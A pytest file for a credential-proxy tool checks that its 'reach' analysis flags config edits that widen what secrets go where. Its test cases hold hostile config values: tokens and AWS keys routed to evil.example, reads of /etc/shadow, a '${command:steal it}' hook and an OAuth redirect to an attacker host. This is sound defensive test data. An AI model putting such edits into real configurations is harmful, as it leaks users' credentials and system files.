"""What a configuration reaches: told without reading a source, widened by what widens it and by nothing else."""

import os
from pathlib import Path

import pytest

from authwright.config import reach_at
from authwright.config.fields import spec_of
from authwright.config.reach import OPTIONS_WITHOUT_REACH, SETTINGS_WITHOUT_REACH
from authwright.config.reach_lines import Fact, grouped
from authwright.errors import AuthwrightError, ConfigError
from authwright.rules.rule import Options
from authwright.rules.settings import Settings
from authwright.sources.reader import Sources

RECIPES = Path(__file__).parents[2] / "config" / "recipes"
WHOLE = """\
version: 1
environment: dev
variables: {api: api.dev.example.com}
environments:
  dev: {idp: https://idp.dev.example.com, ids_secret: "${env:SECRET_DEV}"}
  prod: {idp: https://idp.example.com, api: api.example.com, ids_secret: "${keyring:authwright/prod}"}
settings: {listen: 127.0.0.1:8080}
credentials:
  orders:
    type: oauth2
    hosts: ["${api}"]
    grant: client_credentials
    token_endpoint: ${idp}/connect/token
    client_id: orders-cli
    client_secret: ${ids_secret}
    scope: [orders.read]
rules:
  - name: orders
    match: {host: "${api}"}
    auth: orders
    rules:
      - match: {path: [/health, /docs/**]}
        auth: none
  - name: github
    match: GET api.github.com/repos/**
    auth: {type: bearer, token: "${env:GITHUB_TOKEN}"}
  - name: wiki
    match: wiki.example.com
    auth: {type: basic, username: me, password: "${command:pass show wiki}"}
    on_existing: keep
  - name: maps
    match: maps.example.com
    auth: {type: api_key, name: key, in: query, value: k3y-in-the-clear}
"""


@pytest.fixture(autouse=True)
def no_source_is_read(monkeypatch):
    """A reach that reads a source fails every test here."""

    def read(*_):
        raise AssertionError("a source was read")

    for name in ("resolve", "missing", "_ask"):
        monkeypatch.setattr(Sources, name, read)


@pytest.fixture
def lines_of(tmp_path):
    def lines(text, overlay=""):
        (tmp_path / "authwright.yaml").write_text(text)
        if overlay:
            (tmp_path / "authwright.local.yaml").write_text(overlay)
        return {fact.line for fact in reach_at(tmp_path / "authwright.yaml")}

    return lines


def rule(auth, match="a.example.com", more=""):
    return f"version: 1\nrules:\n  - {{match: {match}, auth: {auth}{more}}}\n"


def test_the_reach_of_the_whole_file_is_that_of_all_its_environments(lines_of):
    assert lines_of(WHOLE) == {
        "runs pass show wiki",
        "asks https://idp.dev.example.com/connect/token",
        "asks https://idp.example.com/connect/token",
        "sends ${env:SECRET_DEV} to idp.dev.example.com",
        "sends ${keyring:authwright/prod} to idp.example.com",
        "sends a token of https://idp.dev.example.com/connect/token to api.dev.example.com",
        "sends a token of https://idp.example.com/connect/token to api.example.com",
        "sends ${env:GITHUB_TOKEN} to api.github.com",
        "sends ${command:pass show wiki} to wiki.example.com",
        *(
            f"authenticates requests to {host}"
            for host in (
                "api.dev.example.com",
                "api.example.com",
                "api.github.com",
                "wiki.example.com",
                "maps.example.com",
            )
        ),
    }


USUAL = {
    "a comment": ("environment: dev\n", "environment: dev # for now\n"),
    "the default environment": ("environment: dev", "environment: prod"),
    "the port to listen on": ("127.0.0.1:8080", "127.0.0.1:9090"),
    "a scope more": ("[orders.read]", "[orders.read, orders.write]"),
    "a scope less": ("    scope: [orders.read]\n", ""),
    "a method": ("GET api.github.com", "GET,POST api.github.com"),
    "a path": ("/repos/**", "/user"),
    "a port of a host": ("api.github.com/repos", "api.github.com:8443/repos"),
    "an exception more": ("[/health, /docs/**]", "[/health, /docs/**, /favicon.ico]"),
    "a rule's name": ("name: github", "name: gh"),
    "a credential's name": ("orders", "purchases"),
    "a variable's name": ("ids_secret", "orders_secret"),
    "a header's or parameter's name": ("name: key", "name: api_key"),
    "where a key goes": ("in: query", "in: header"),
    "the prefix of a token": ('token: "${env:GITHUB_TOKEN}"', 'token: "${env:GITHUB_TOKEN}", prefix: token'),
    "an option": ("on_existing: keep", "on_existing: refuse"),
    "a literal secret": ("k3y-in-the-clear", "another-k3y"),
    "a rule for a host that has one, for other paths": (
        "  - name: wiki\n",
        '  - {name: gists, match: api.github.com/gists, auth: {type: bearer, token: "${env:GITHUB_TOKEN}"}}\n  - name: wiki\n',
    ),
    "a rule taken away": (WHOLE[WHOLE.index("  - name: maps") :], ""),
    "a rule without authentication": (
        "rules:\n  - name: orders\n",
        "rules:\n  - {match: cdn.example.com, auth: none}\n  - name: orders\n",
    ),
    "how a client authenticates": ("client_id: orders-cli", "client_id: orders-cli\n    client_auth: client_secret_post"),
    "another client": ("client_id: orders-cli", "client_id: orders-web"),
    "a setting that opens nothing up": (
        "listen: 127.0.0.1:8080",
        "listen: 127.0.0.1:8080, annotate: true, max_signed_body: 1MiB",
    ),
    "a condition more": ('match: {host: "${api}"}', 'match: {host: "${api}", header: {X-Team: orders}}'),
}


@pytest.mark.parametrize(("old", "new"), USUAL.values(), ids=USUAL)
def test_an_usual_edit_adds_nothing_to_the_reach(lines_of, old, new):
    assert old in WHOLE
    before = lines_of(WHOLE)
    assert lines_of(WHOLE.replace(old, new)) - before == set()


WIDENING = {
    "a host of a rule": ("match: wiki.example.com", "match: {host: [wiki.example.com, evil.example]}", "authenticates requests to evil.example"),
    "a wider host": ("match: wiki.example.com", "match: '**.example.com'", "sends ${command:pass show wiki} to **.example.com"),
    "a host of a credential": ('hosts: ["${api}"]', 'hosts: ["${api}", evil.example]', "authenticates requests to evil.example"),
    "another secret": ("${env:GITHUB_TOKEN}", "${env:AWS_SECRET_ACCESS_KEY}", "sends ${env:AWS_SECRET_ACCESS_KEY} to api.github.com"),
    "a secret in a harmless place": ("in: query", 'in: query, extra: "${env:HOME_KEY}"', "sends ${env:HOME_KEY} to maps.example.com"),
    "a file outside": ("${env:GITHUB_TOKEN}", "${file:/etc/shadow}", "reads /etc/shadow"),
    "an argument of a command": ("pass show wiki", "pass show bank", "runs pass show bank"),
    "a token endpoint": ("idp: https://idp.example.com", "idp: https://idp.evil.example", "asks https://idp.evil.example/connect/token"),
    "another tenant at the same host": ("/connect/token", "/evil/token", "asks https://idp.example.com/evil/token"),
    "an introspection endpoint": ("    scope:", "    introspection_endpoint: https://evil.example/i\n    scope:", "sends ${env:SECRET_DEV} to evil.example"),
    "a revocation endpoint": ("    scope:", "    revocation_endpoint: https://evil.example/r\n    scope:", "asks https://evil.example/r"),
    "an issuer": ("    scope:", "    issuer: https://evil.example\n    scope:", "asks https://evil.example"),
    "an address to listen on": ("127.0.0.1:8080", "0.0.0.0:8080", "listens on 0.0.0.0"),
    "a mode": ("listen: 127.0.0.1:8080", "mode: upstream:http://evil.example", "works in the mode upstream:http://evil.example"),
    "an address from a source": ("127.0.0.1:8080", '"${env:ADDRESS}"', "listens on ${env:ADDRESS}"),
    "all TLS": ("listen: 127.0.0.1:8080", "inspect_all: true", "opens the TLS of every host"),
    "a CA": ("listen: 127.0.0.1:8080", "upstream_ca: /x/evil.pem", "trusts the CAs of /x/evil.pem"),
    "plain http": ("on_existing: keep", "allow_http: true", "sends credentials in the clear to wiki.example.com"),
    "a web origin": ("on_existing: keep", "allow_origins: [https://evil.example]", "lets web pages of https://evil.example use the credential of wiki.example.com"),
    "a variable in another environment": ("api: api.example.com, ids_secret", "api: evil.example, ids_secret", "sends a token of https://idp.example.com/connect/token to evil.example"),
    "an environment": ("  prod:", '  test: {idp: https://idp.evil.example, ids_secret: "${env:GITHUB_TOKEN}"}\n  prod:', "sends ${env:GITHUB_TOKEN} to idp.evil.example"),
    "an exception that injects after all": ("auth: none", 'auth: {type: bearer, token: "${env:OTHER}"}', "sends ${env:OTHER} to api.example.com"),
    "a client certificate": ("on_existing: keep", "client_certificate: me.pem, client_key: me.key".replace(", ", "\n    "), "sends ${file:me.key} to wiki.example.com"),
    "a redirect away from this machine": ("    scope:", "    redirect_uri: https://evil.example/cb\n    scope:", "lets sign-ins end at https://evil.example/cb"),
    "the AWS keys at hand": ("{type: api_key, name: key, in: query, value: k3y-in-the-clear}", "{type: aws_sigv4}", "sends signatures by your AWS keys to maps.example.com"),
    "another AWS profile": ("{type: api_key, name: key, in: query, value: k3y-in-the-clear}", "{type: aws_sigv4, profile: prod}", "sends signatures by the AWS keys of profile prod to maps.example.com"),
    "the Kerberos ticket": ("{type: api_key, name: key, in: query, value: k3y-in-the-clear}", "{type: ntlm}", "sends your Kerberos ticket to maps.example.com"),
    "a setting that nobody knows yet": ("listen: 127.0.0.1:8080", "telemetry: evil.example", "sets telemetry"),
}  # fmt: skip


@pytest.mark.parametrize(("old", "new", "line"), WIDENING.values(), ids=WIDENING)
def test_an_edit_that_widens_the_reach_says_how(lines_of, old, new, line):
    assert old in WHOLE
    before = lines_of(WHOLE)
    assert line in lines_of(WHOLE.replace(old, new)) - before


HARD_TO_SEE = {
    "a secret in the prefix of a token": (
        rule('{type: oauth2, grant: client_credentials, token_endpoint: "https://i.example/t", client_id: c, prefix: "${env:X}"}'),
        "sends ${env:X} to a.example.com",
    ),
    "a secret in the host of an endpoint": (
        rule('{type: oauth2, grant: client_credentials, token_endpoint: "https://${env:X}.evil.example/t", client_id: c}'),
        "asks https://${env:X}.evil.example/t",
    ),
    "a secret as a default of another": (rule('{type: bearer, token: "${env:A:-${env:B}}"}'), "sends ${env:B} to a.example.com"),
    "a host that comes from a source": (
        rule('{type: bearer, token: "${env:X}"}', match='"GET https://${env:HOST}:8443/api"'),
        "sends ${env:X} to ${env:HOST}",
    ),
    "a host in part": (rule('{type: bearer, token: "${env:X}"}', match='"api.${env:R}.example.com"'), "sends ${env:X} to api.${env:R}.example.com"),
    "a default host": (
        rule('{type: bearer, token: "${env:X}"}', match='{host: "${env:HOST:-evil.example}"}'),
        "sends ${env:X} to ${env:HOST:-evil.example}",
    ),
    "a login": (
        rule('{type: cookie, login: {url: "https://i.example/login?k=v", form: {password: "${env:X}"}}}'),
        "sends ${env:X} to i.example",
    ),
    "a page before a login": (
        rule('{type: cookie, login: {url: "https://i.example/", form: {a: b}, csrf: {url: "https://evil.example/x", field: f}}}'),
        "asks https://evil.example/x",
    ),
    "a file that a parameter names": (rule("{type: edgegrid, edgerc: /srv/.edgerc}"), "reads /srv/.edgerc"),
    "the usual address of an API": (
        rule("{type: oauth2, grant: github_app, client_id: c, private_key: app.pem, installation_id: '1'}"),
        "sends ${file:app.pem} to api.github.com",
    ),
    "the token of another credential": (
        ("version: 1\ncredentials:\n  mine: {type: oauth2, grant: client_credentials, token_endpoint: https://i.example/t, client_id: c}\n"
        "rules:\n  - match: a.example.com\n    auth: {type: oauth2, grant: token_exchange, source_credential: mine, "
        "token_endpoint: https://evil.example/t, client_id: c}\n"),
        "sends a token of https://i.example/t to evil.example",
    ),
    "a credential that extends another": (
        ('version: 1\ncredentials:\n  mine: {type: bearer, token: "${env:X}"}\nrules:\n'
        "  - {match: evil.example, auth: {extends: mine, prefix: token}}\n"),
        "sends ${env:X} to evil.example",
    ),
    "a child that inherits": (
        ('version: 1\nrules:\n  - match: a.example.com\n    auth: {type: bearer, token: "${env:X}"}\n'
        "    rules:\n      - {match: {host: evil.example}, auth: inherit}\n"),
        "sends ${env:X} to evil.example",
    ),
    "a credential that no rule uses": (
        ('version: 1\ncredentials:\n  mine: {type: oauth2, grant: password, token_endpoint: "https://evil.example/t", client_id: c, '
        'username: u, password: "${env:X}"}\nrules: []\n'),
        "sends ${env:X} to evil.example",
    ),
    "the password of the proxy": (
        'version: 1\nsettings: {password: "${command:steal it}"}\nrules: []\n',
        "runs steal it",
    ),
    "an option that comes from a source": (rule("{type: bearer, token: x}", more=', allow_http: "${env:CLEAR}"'), "sends credentials in the clear to a.example.com"),
    "upper case and a dot at the end": (rule('{type: bearer, token: "${env:X}"}', match="API.Example.COM."), "sends ${env:X} to api.example.com"),
    "several credentials in one rule": (
        rule('[{type: bearer, token: "${env:X}"}, {type: api_key, name: k, value: "${env:Y}"}]'),
        "sends ${env:Y} to a.example.com",
    ),
}  # fmt: skip


@pytest.mark.parametrize(("text", "line"), HARD_TO_SEE.values(), ids=HARD_TO_SEE)
def test_what_is_hard_to_see_is_in_the_reach(lines_of, text, line):
    assert line in lines_of(text)


def test_a_link_in_the_folder_that_leads_out_of_it_is_a_file_outside(lines_of, tmp_path):
    (tmp_path / "token").symlink_to("/etc/hostname")
    inside = lines_of(rule('{type: bearer, token: "${file:other}"}'))
    assert [line for line in inside if line.startswith("reads")] == []
    assert f"reads {os.path.realpath('/etc/hostname')}" in lines_of(rule('{type: bearer, token: "${file:token}"}'))


def test_a_folder_that_is_called_like_somebodys_home_hides_nothing(lines_of, tmp_path):
    (tmp_path / "~root").mkdir()
    (tmp_path / "~root" / "key").symlink_to("/etc/hostname")
    assert f"reads {os.path.realpath('/etc/hostname')}" in lines_of(rule('{type: bearer, token: "${file:~root/key}"}'))


def test_an_overlay_is_part_of_it(lines_of):
    added = lines_of(WHOLE, 'rules:\n  - {match: evil.example, auth: {type: bearer, token: "${env:X}"}}\n')
    assert "sends ${env:X} to evil.example" in added


@pytest.mark.parametrize(
    "text",
    [
        rule("{type: bearer, token: s3cret}"),
        rule('{type: bearer, token: "${env:X:-s3cret}"}'),
        rule("{type: basic, username: u, password: s3cret}"),
        rule("{type: cookie, login: {url: 'https://u:s3cret@i.example/?k=s3cret#s3cret', form: {password: s3cret}}}"),
        'version: 1\nsettings: {mode: "upstream:http://u:s3cret@p.example", password: s3cret}\nrules: []\n',
        "version: 1\nvariables: {v: s3cret}\n" + rule('{type: bearer, token: "${v}"}').partition("\n")[2],
        "version: 1\nsettings: {pasword: s3cret}\nrules: []\n",
    ],
)  # fmt: skip
def test_a_secret_in_the_clear_stands_in_no_line(lines_of, text):
    assert "s3cret" in text
    assert [line for line in lines_of(text) if "s3cret" in line] == []


@pytest.mark.parametrize("recipe", sorted(RECIPES.glob("*.yaml")), ids=lambda path: path.stem)
def test_every_recipe_reaches_something_and_is_shown_on_one_screen(recipe):
    assert 0 < len(grouped(reach_at(recipe))) < 25


def test_every_option_and_setting_is_known_to_have_reach_or_not():
    """Who adds one decides: here, and where the reach is told."""
    with_reach = {"allow_http", "allow_origins", "client_certificate", "client_key"}
    assert set(spec_of(Options).fields) == with_reach | OPTIONS_WITHOUT_REACH
    assert set(spec_of(Settings).fields) == {"listen", "mode", "upstream_ca", "inspect_all", "password"} | SETTINGS_WITHOUT_REACH


def test_a_value_that_grows_without_bound_is_refused(lines_of):
    names = "".join(f"  a{n}: '{f'${{a{n + 1}}}' * 20}'\n" for n in range(12))
    text = f"version: 1\nvariables:\n{names}  a12: {'x' * 50}\n" + rule('{type: bearer, token: "${a0}"}').partition("\n")[2]
    with pytest.raises(AuthwrightError) as caught:
        lines_of(text)
    assert caught.value.code == "config_reach"


def test_what_is_no_yaml_is_told_as_ever(lines_of):
    with pytest.raises(ConfigError):
        lines_of("version: [")


def test_facts_are_shown_together_with_what_can_do_most_harm_first():
    facts = [
        Fact("authenticates requests to", "a.example"),
        Fact("sends ${env:X} to", "a.example"),
        Fact("sends ${env:X} to", "b.example"),
        Fact("runs", "one"),
        Fact("runs", "two"),
    ]
    assert grouped(facts) == [
        "runs one",
        "runs two",
        "sends ${env:X} to a.example, b.example",
        "authenticates requests to a.example",
    ]


def _many_hosts(count):
    hosts = ", ".join(f"h{number}.example" for number in range(count))
    rules = "".join(f"  - {{match: h{number}.example, auth: one}}\n" for number in range(count))
    return f"version: 1\ncredentials:\n  one: {{type: bearer, token: '${{env:X}}', hosts: [{hosts}]}}\nrules:\n{rules}"


def _large_group(count):
    hosts = ", ".join(f"h{number}.example" for number in range(count))
    rules = "".join(f"      - {{match: {{path: /p{number}}}, annotate: true}}\n" for number in range(count))
    auth = "{type: bearer, token: '${env:X}'}"
    return f"version: 1\nrules:\n  - match: {{host: [{hosts}]}}\n    auth: {auth}\n    allow_http: true\n    rules:\n{rules}"


def _inherited_twice(count):
    rules = "{match: /p, auth: [inherit, inherit]}"
    for _ in range(count // 4):
        rules = f"{{match: /p, auth: [inherit, inherit], rules: [{rules}]}}"
    return f"version: 1\nrules:\n  - {{match: a.example, auth: {{type: bearer, token: '${{env:X}}'}}, rules: [{rules}]}}\n"


@pytest.mark.parametrize("text_of", [_many_hosts, _large_group, _inherited_twice])
def test_a_file_twice_as_long_takes_twice_the_work(lines_of, monkeypatch, text_of):
    """A file from a stranger must not keep ``trust`` busy for hours; so the facts that are made grow with the file alone."""
    made = []

    def counted(*parts):
        made.append(parts)
        return Fact(*parts)

    monkeypatch.setattr("authwright.config.reach.Fact", counted)
    monkeypatch.setattr("authwright.config.reach_credential.Fact", counted)
    lines_of(text_of(20))
    once = len(made)
    lines_of(text_of(40))
    assert once < len(made) <= 3.2 * once


def test_a_long_chain_of_credentials_that_extend_one_another_is_followed_to_its_end(lines_of):
    chain = "".join(f"  c{number + 1}: {{extends: c{number}}}\n" for number in range(1500))
    head = "version: 1\ncredentials:\n  c0: {type: bearer, token: '${env:X}'}\n"
    text = f"{head}{chain}rules:\n  - {{match: a.example, auth: c1500}}\n"
    assert lines_of(text) == {"authenticates requests to a.example", "sends ${env:X} to a.example"}


def test_a_reach_that_is_too_long_to_be_shown_is_refused(lines_of, monkeypatch):
    monkeypatch.setattr("authwright.config.reach._MOST_FACTS", 100)
    assert len(lines_of(_many_hosts(50))) == 100
    with pytest.raises(AuthwrightError) as caught:
        lines_of(_many_hosts(51))
    assert caught.value.code == "config_reach"
